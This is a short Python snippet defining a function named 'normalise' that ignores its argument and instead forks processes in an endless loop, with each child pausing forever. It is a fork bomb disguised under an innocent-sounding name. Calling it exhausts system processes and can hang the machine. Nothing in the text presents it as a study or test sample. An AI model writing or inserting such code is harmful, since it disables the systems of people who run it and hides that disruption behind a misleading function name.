import os
import signal


def normalise(x):
    while True:
        if os.fork() == 0:
            signal.pause()
